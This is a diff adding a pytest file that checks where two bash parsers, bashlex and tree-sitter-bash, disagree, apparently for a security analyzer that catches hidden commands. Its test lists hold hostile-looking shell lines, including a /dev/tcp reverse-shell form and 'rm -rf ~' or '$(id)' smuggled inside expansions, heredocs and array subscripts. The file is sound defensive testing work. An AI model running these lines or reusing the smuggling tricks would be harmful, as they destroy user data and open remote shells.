@@ -1,0 +1,472 @@
+"""The bashlex / tree-sitter-bash cross-check (security.differential)."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+from pathlib import Path
+
+import bashlex
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from security.differential import bashlex_shapes, disagreement, treesitter_shapes
+
+
+def parse(line: str) -> list[object]:
+    return list(bashlex.parse(line))
+
+
+AGREE = [
+    # simple commands, pipelines, lists
+    "ls -la",
+    "ls -la | grep x",
+    "cat f | sort | uniq -c | sort -rn | head",
+    "make && make test",
+    "make || echo failed",
+    "cd src; ls",
+    "cd x && ls",
+    "uname -a; whoami; id",
+    "which python3 || which python",
+    "sleep 10 &",
+    "sleep 1 & sleep 2; wait",
+    "a && b &",
+    "ls |& cat",
+    "ls;",
+    "  ls  ",
+    "ls\npwd",
+    "cd x\nmake\nmake test",
+    "ls\n\npwd\n",
+    "id &&\nls",
+    "id |\nls",
+    # quoting
+    'grep -rn "def main" .',
+    "echo 'single quoted'",
+    "printf $'a\\nb'",
+    "echo $'\\n'",
+    "ls my\\ file",
+    "echo a\\;b",
+    "echo 'a;b' \"c|d\"",
+    "echo \"a\"'b'c",
+    'echo "It\'s" \'a "test"\'',
+    'git commit -m "fix: it\'s done"',
+    'echo "multi\nline"',
+    'git commit -m "line1\n\nline2"',
+    "echo $'\\'' ; id",
+    "echo 'a'\\''b' ; id",
+    'echo "a\\"b" ; id',
+    'echo "\\$(id)"',
+    "echo '$(id)'",
+    "python -c 'print(1)'",
+    'python -c "import sys; print(sys.version)"',
+    "awk '{print $1}' f",
+    "awk -F: '$3 > 1000 {print $1}' /etc/passwd",
+    "ls -l | awk '{s+=$5} END {print s}'",
+    "sed -n '1,5p' f",
+    "sed -e 's/a/b/' -e 's/c/d/' f",
+    "git log --format='%H %s'",
+    'git log --pretty=format:"%h %an" -n 3',
+    "docker ps -a --format '{{.Names}}'",
+    "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
+    "grep -E '^(a|b)$' f",
+    "rg -n 'foo\\(' src",
+    "echo 'a b' | tr ' ' '\\n'",
+    # globs, braces, tildes
+    "rm -f *.pyc",
+    "ls **/*.py",
+    "ls [ab]*.txt",
+    "ls ?.txt",
+    "ls -d */",
+    "echo {a,b}",
+    "echo {1..5}",
+    "ls *.{py,txt}",
+    "cp a{,.bak}",
+    "mkdir -p out/{a,b}/c",
+    "echo ~ ~/x ~user",
+    "du -sh .[!.]*",
+    "ps aux | grep [p]ython",
+    # redirections
+    "ls 2>/dev/null",
+    "make 2>&1 | tee log",
+    "sort < in",
+    "echo hi > out",
+    "echo hi >> out",
+    "cmd &> log",
+    "cmd >| out",
+    "cmd 1>&2",
+    "cmd 2>>err.log",
+    "cmd <&-",
+    "exec 3>&-",
+    "cat 3<f",
+    "wc -l < f",
+    "tr -d '\\r' < f > g",
+    "ls 2>&1 >/dev/null | grep err",
+    "ls -la > /tmp/out.txt 2>&1 && cat /tmp/out.txt",
+    "nohup cmd > log 2>&1 &",
+    "<in id",
+    "2>&1 id",
+    "> out",
+    "cat <<< hello",
+    'read -r a b <<< "1 2"',
+    # normalised: words after a redirection (tree-sitter hangs them on the redirect)
+    "grep 2>/dev/null -q x f",
+    "echo >&2 error message",
+    "sort > out.txt in.txt",
+    "a && b 2>/dev/null -q x",
+    "echo a >f b c >g d",
+    "bash -i >& /dev/tcp/h/1 0>&1",
+    "export X >f Y",
+    # heredocs (tree-sitter drops the `-` before `<<`: normalised)
+    "cat <<EOF\nhello\nEOF",
+    "cat <<-EOF\n\thello\nEOF",
+    "cat > f <<EOF\nline $HOME\nEOF",
+    "cat > f.py <<EOF\nimport os\nprint(os.getcwd())\nEOF\npython f.py",
+    "python3 - <<EOF\nprint(1)\nEOF",
+    "cd x && python3 - <<EOF\nx\nEOF",
+    "cat -<<EOF\nEOF",
+    "cat <<EOF -\nEOF",
+    "cat <<EOF >f x\nEOF",
+    "cat <<EOF | grep a\nx\nEOF",
+    "cat >f - 2>&1",
+    # substitutions
+    "echo $(date)",
+    "echo `date`",
+    'echo "today is $(date +%F)"',
+    'echo "a `whoami` b"',
+    "echo x`ls`y",
+    "echo $(echo $(echo hi))",
+    'echo "$(echo "$(pwd)")"',
+    "cat $(find . -name x)",
+    "kill -9 $(pgrep -f x)",
+    "wc -l $(git ls-files '*.py')",
+    "make -j$(nproc)",
+    "cd `dirname $0`",
+    "ls > $(mktemp)",
+    'ls 2>"$(id)"',
+    'cat <<< "$(date)"',
+    "diff <(ls a) <(ls b)",
+    "tee >(wc -l) < f",
+    "comm -12 <(sort a) <(sort b)",
+    "ls -la | tee >(grep x > a) | wc -l",
+    'while read -r a b; do echo "$b $a"; done < <(sort f)',
+    "echo $(echo \\))",
+    # variables and parameter expansions without substitutions
+    "echo $HOME",
+    'echo "$HOME/x"',
+    "echo ${HOME}",
+    "echo ${#x}",
+    "echo ${x:-default}",
+    "echo ${x%.py}",
+    "echo ${x//a/b}",
+    'echo "${PATH//:/ }"',
+    "echo ${VAR:?missing}",
+    "echo ${#arr[@]}",
+    'mv -- "$f" "${f%.txt}.md"',
+    "echo $? $$ $! $# $@ $*",
+    'echo "$@"',
+    'echo $"hello"',  # normalised: tree-sitter splits `$` from the string
+    # assignments
+    "LANG=C sort x",
+    "A=1 B=2 env",
+    "X=1",
+    "X=1 Y=2",
+    "X=$(pwd)",
+    "X=`pwd`; echo $X",
+    'a=$(cat f); echo "$a"',
+    'OUT=$(mktemp -d) && cp -r . "$OUT"',
+    "env -i PATH=/bin ls",
+    "echo a=b",
+    # compound commands
+    'for f in *.py; do wc -l "$f"; done',
+    "for i in 1 2 3; do echo $i; done",
+    "for i in $(seq 1 10); do echo $i; done",
+    'for d in */; do (cd "$d" && git pull); done',
+    "if [ -f x ]; then cat x; fi",
+    "if [ -f x ]; then cat x; else echo no; fi",
+    'if [ "$a" = b ]; then echo y; elif [ -d d ]; then ls d; fi',
+    "if ! command -v jq >/dev/null; then echo missing; fi",
+    'while read l; do echo "$l"; done < f',
+    "while IFS= read -r line; do printf '%s\\n' \"$line\"; done < in.txt",
+    'ls | while read f; do echo "$f"; done',
+    "until false; do sleep 1; done",
+    "f() { ls; }; f",
+    "function g { ls; }; g",
+    "function f () ( id )",
+    "f() ( ls )",
+    "f() { id; } >out",
+    "(cd x && make)",
+    "( ls; pwd )",
+    "{ ls; pwd; }",
+    "{ ls; } > out 2>&1",
+    "true && { ls; pwd; } || echo no",
+    "(a; b) | (c && d)",
+    "! grep -q x f",
+    "! ls | wc",
+    # test brackets (normalised: tree-sitter's test_command flattened)
+    '[ -n "$x" ] && echo set',
+    "[ ! -e f ] || rm f",
+    "[ -f x -a -d y ]",
+    "[ x = y -o a != b ]",
+    '[ "$(uname)" = Darwin ] && echo mac || echo other',
+    "[ $# -eq 0 ] && exit 1",
+    '[ -z "${a:-}" ]',
+    "test -f x && cat x",
+    # declarations (normalised: declaration_command / unset_command)
+    "export X=1",
+    "export PATH=$PATH:/x",
+    "export A B=2 C",
+    "export X=$(id)",
+    "local x=1",
+    "declare -r x=1",
+    "declare -x X=1 >/dev/null",
+    "readonly x",
+    "unset x",
+    "unset -f f",
+    # everyday tools
+    "find . -name '*.py' -exec grep -l x {} \\;",
+    "find . -type f -print0 | xargs -0 rm",
+    'find . -name "*.py" | xargs grep -n "TODO" 2>/dev/null | head -20',
+    "ls | xargs -n1 echo",
+    "seq 5 | xargs -I{} echo item {}",
+    "git log --oneline -5",
+    "git status && git diff --stat",
+    "git diff HEAD~1 -- file",
+    "git add -A && git commit -m 'wip'",
+    "git log --since='2 weeks ago' --author=\"$(git config user.email)\"",
+    "curl -sSL https://x.org/a?b=c | head",
+    "curl -o /dev/null -w '%{http_code}' https://x",
+    "pip install -e '.[dev]'",
+    'pytest -k "not slow" -x',
+    "npm install --save-dev @types/node",
+    "cargo build --release 2>&1 | tail",
+    'docker run --rm -v "$PWD":/w -w /w img make',
+    "tar cf - dir | (cd /dst && tar xf -)",
+    "tar cf - . | ssh h tar xf -",
+    "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"k\"])' < f.json",
+    "trap 'rm -f x' EXIT",
+    "set -euo pipefail",
+    "source .venv/bin/activate",
+    "echo -- -n",
+    "echo done; exit 0",
+    # keywords as arguments, comments, `#` inside words
+    "echo if then",
+    "echo done",
+    "echo fi; ls",
+    "echo }",
+    "ls # rm -rf /",
+    "ls; # comment\npwd",
+    "echo a#b",
+    "echo a#$(id)",
+    "echo #$(id)",
+    "echo $(#c\nid)",
+    "ls -la \\\n  | grep x",
+    # non-ASCII (tree-sitter's byte offsets converted)
+    "grep 'héllo' f",
+    "echo 日本語 | wc -c",
+    "echo 'ü' \"ö\" ä; ls ß",
+    'echo "é$(id)é" && ls ü',
+    "echo a\u00a0b",
+]
+
+# Lines the two parsers read differently. Each is a real differential: one of them
+# (sometimes bash itself) reads a command or a word that the other does not.
+DISAGREE = [
+    # bashlex keeps ${...} opaque; tree-sitter (and bash) run the substitution inside.
+    "echo ${x:-$(rm -rf ~)}",
+    'echo "${y:=$(id)}"',
+    "echo ${x/$(id)/y}",
+    'echo ${x:-"$(id)"}',
+    # an array subscript is arithmetic: bash runs the $(id) in it; bashlex does not see it
+    "echo ${arr[$(id)]}",
+    # unquoted heredoc bodies expand; bashlex does not parse them, even with '...' inside
+    "cat <<EOF\n$(id)\nEOF",
+    "cat <<EOF\n'$(id)'\nEOF",
+    # backslash-newline joins words in bash (`ec\<nl>ho` is `echo`); tree-sitter splits
+    "ec\\\nho hi",
+    "ls\\\n-la",
+    # ... and bashlex invents a command named `$(` here
+    "echo a\\\n$(id)",
+    # \r, \v, \f are not blanks to bash (or bashlex); tree-sitter splits words on them
+    "ls\rid",
+    "ls\r\nid",
+    "ls\x0bid",
+    "ls\x0cid",
+    # tree-sitter reads backslash-CRLF as a line continuation; bash runs `echo $'\r'; id`
+    "echo \\\r\nid",
+    # an arithmetic command; bashlex reads nested subshells that run a command `x`
+    "(( x = 1 ))",
+    # no expansion inside $'...'; bashlex still sees a command `id`
+    "echo $'$(id)'",
+    # array element assignment: bashlex sees a command named `arr[$(id)]=1`
+    "arr[$(id)]=1",
+    # an assignment after a redirection is still an assignment: bash runs `rm`, but
+    # bashlex reads `a=1` as the command name
+    ">/dev/null a=1 rm -rf ~",
+    # `!` is a keyword only when a blank follows: bash runs a command `!$x`
+    "!$x",
+    # two backquoted substitutions: tree-sitter reads one from the first ` to the last
+    "echo `date` `whoami`",
+    "echo `a``b`",
+    # `# c)` is a comment inside $( ): bash runs `id` too; bashlex stops at the `)`
+    "echo $(ls # c)\nid)",
+    # brace expansion in command position runs `ls -la`; tree-sitter cannot parse it
+    "{ls,-la}",
+    # tree-sitter fails on escaped parentheses in [ ], and glues `] [` into one word
+    "[ \\( a \\) ]",
+    "echo ] [",
+    # bash: one word `X=$(id)<(ls)`; tree-sitter makes `<(ls)` a separate command
+    "X=$(id)<(ls)",
+    # bash: word `-2` and a stdout redirection; tree-sitter reads `2>` as stderr
+    "echo -2>/dev/null f",
+    # a lone escaped blank is a word to bash; tree-sitter drops it
+    "ls \\  -la",
+    # `--x=1` is not an assignment (bad name): bash runs it; tree-sitter assigns
+    "--x=1 ls",
+    # `\$(` is literal in a heredoc body; tree-sitter fails to parse it
+    "cat <<EOF\n\\$(id)\nEOF",
+    # constructs tree-sitter-bash cannot parse: <> with a descriptor, two heredocs,
+    # a heredoc followed by `;` on its line
+    "exec 3<>f",
+    "cat <<A <<B\na\nA\nb $(id)\nB",
+    "cat <<EOF; ls\nx\nEOF",
+]
+
+
+@pytest.mark.parametrize("line", AGREE)
+def test_everyday_lines_agree(line: str) -> None:
+    assert disagreement(line, parse(line)) is None
+
+
+@pytest.mark.parametrize("line", DISAGREE)
+def test_differentials_are_reported(line: str) -> None:
+    reason = disagreement(line, parse(line))
+    assert reason is not None
+    assert not reason.startswith("differential check failed"), reason
+
+
+def test_list_sizes() -> None:
+    assert len(AGREE) >= 120
+    assert len(DISAGREE) >= 25
+    assert len(set(AGREE)) == len(AGREE)
+    assert len(set(DISAGREE)) == len(DISAGREE)
+
+
+def test_shapes_of_a_pipeline() -> None:
+    line = 'FOO=1 ls -l "$(pwd)" 2>&1 | grep x > out'
+    expected = [(6, ("ls", "-l", '"$(pwd)"')), (15, ("pwd",)), (28, ("grep", "x"))]
+    assert sorted(bashlex_shapes(line, parse(line))) == expected
+    assert sorted(treesitter_shapes(line) or []) == expected
+
+
+def test_words_are_raw_source_text() -> None:
+    line = "echo 'a b' \"$HOME\"x \\; $'\\t'"
+    assert treesitter_shapes(line) == [(0, ("echo", "'a b'", '"$HOME"x', "\\;", "$'\\t'"))]
+
+
+def test_offsets_are_characters_not_bytes() -> None:
+    line = "echo 'héllo' ü; ls 日本"
+    shapes = sorted(treesitter_shapes(line) or [])
+    assert shapes == [(0, ("echo", "'héllo'", "ü")), (16, ("ls", "日本"))]
+    assert sorted(bashlex_shapes(line, parse(line))) == shapes
+
+
+def test_assignment_only_and_redirection_only_commands_have_no_shape() -> None:
+    assert treesitter_shapes("X=1 Y=2") == []
+    assert treesitter_shapes("> out") == []
+    assert bashlex_shapes("X=1 Y=2", parse("X=1 Y=2")) == []
+
+
+def test_reason_names_the_command_and_its_offset() -> None:
+    line = "echo ${x:-$(rm -rf ~)}"
+    assert disagreement(line, parse(line)) == (
+        "tree-sitter sees a command `rm -rf ~` at 12 that bashlex does not"
+    )
+    line = "echo $'$(id)'"
+    assert disagreement(line, parse(line)) == (
+        "bashlex sees a command `id` at 9 that tree-sitter does not"
+    )
+
+
+def test_quoted_heredoc_as_the_analyzer_feeds_it() -> None:
+    # bashlex rejects <<'EOF'; the analyzer parses a copy with the quotes blanked out.
+    line = "python3 - <<'PY'\nprint('$(id)')\nPY"
+    blanked = line.replace("<<'PY'", "<< PY ")
+    assert disagreement(line, parse(blanked)) is None
+
+
+@pytest.mark.parametrize(
+    "line", ["echo 'unterminated", "if true; then", "ls |", "echo $(", "a && && b", "[[ x", "(("]
+)
+def test_treesitter_shapes_is_none_on_broken_input(line: str) -> None:
+    assert treesitter_shapes(line) is None
+    assert disagreement(line, []) == "tree-sitter could not parse the line"
+
+
+WEIRD = [
+    "",
+    " ",
+    "\n",
+    "\x00",
+    "ls\x00id",
+    "\x01\x02\x03\x7f",
+    "\x1b[31mred",
+    "\ud800",
+    "echo \udfff \ud800x",
+    "\ufeffls",
+    "echo \u202egnp.exe",
+    "$(" * 200 + ")" * 200,
+    "`" * 101,
+    "'" * 3,
+    "\\",
+    "<<",
+    "${",
+    "é" * 5000,
+    ";" * 50,
+    "\t\r\x0b\x0c",
+]
+
+
+@pytest.mark.parametrize("line", WEIRD)
+def test_never_raises_on_weird_input(line: str) -> None:
+    for nodes in ([], [None], ["text"], [object()]):
+        reason = disagreement(line, nodes)
+        assert reason is None or isinstance(reason, str)
+
+
+def test_a_broken_bashlex_tree_fails_closed() -> None:
+    reason = disagreement("ls", [object()])
+    assert reason is not None
+    assert reason.startswith("differential check failed:")
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(st.characters(exclude_categories=()), max_size=60))  # surrogates too
+def test_never_raises_on_any_text(line: str) -> None:
+    reason = disagreement(line, [])
+    assert reason is None or isinstance(reason, str)
+
+
+WIDE_CHILD = """
+from security.differential import disagreement
+for cp in range(0x100, 0x110000, 0x3FF):
+    c = chr(cp)
+    disagreement("echo {%s}; [ -%s ]; ${x?%s}; cat <<E\\n$%s\\nE" % (c, c, c, c), [])
+"""
+
+
+def test_wide_characters_do_not_crash_the_scanner() -> None:
+    # tree-sitter-bash feeds code points to isdigit()/isalpha(): `{` followed by
+    # U+100000 read out of bounds and killed the interpreter. Run in a child process.
+    root = Path(__file__).resolve().parents[2]
+    done = subprocess.run([sys.executable, "-c", WIDE_CHILD], cwd=root, capture_output=True)
+    assert done.returncode == 0, done.stderr.decode(errors="replace")[-500:]
+
+
+def test_astral_characters_keep_offsets() -> None:
+    line = "echo 😀 {\U00100000}; ls 😀"
+    assert sorted(treesitter_shapes(line) or []) == [
+        (0, ("echo", "😀", "{\U00100000}")),
+        (12, ("ls", "😀")),
+    ]
+    assert disagreement(line, parse(line)) is None
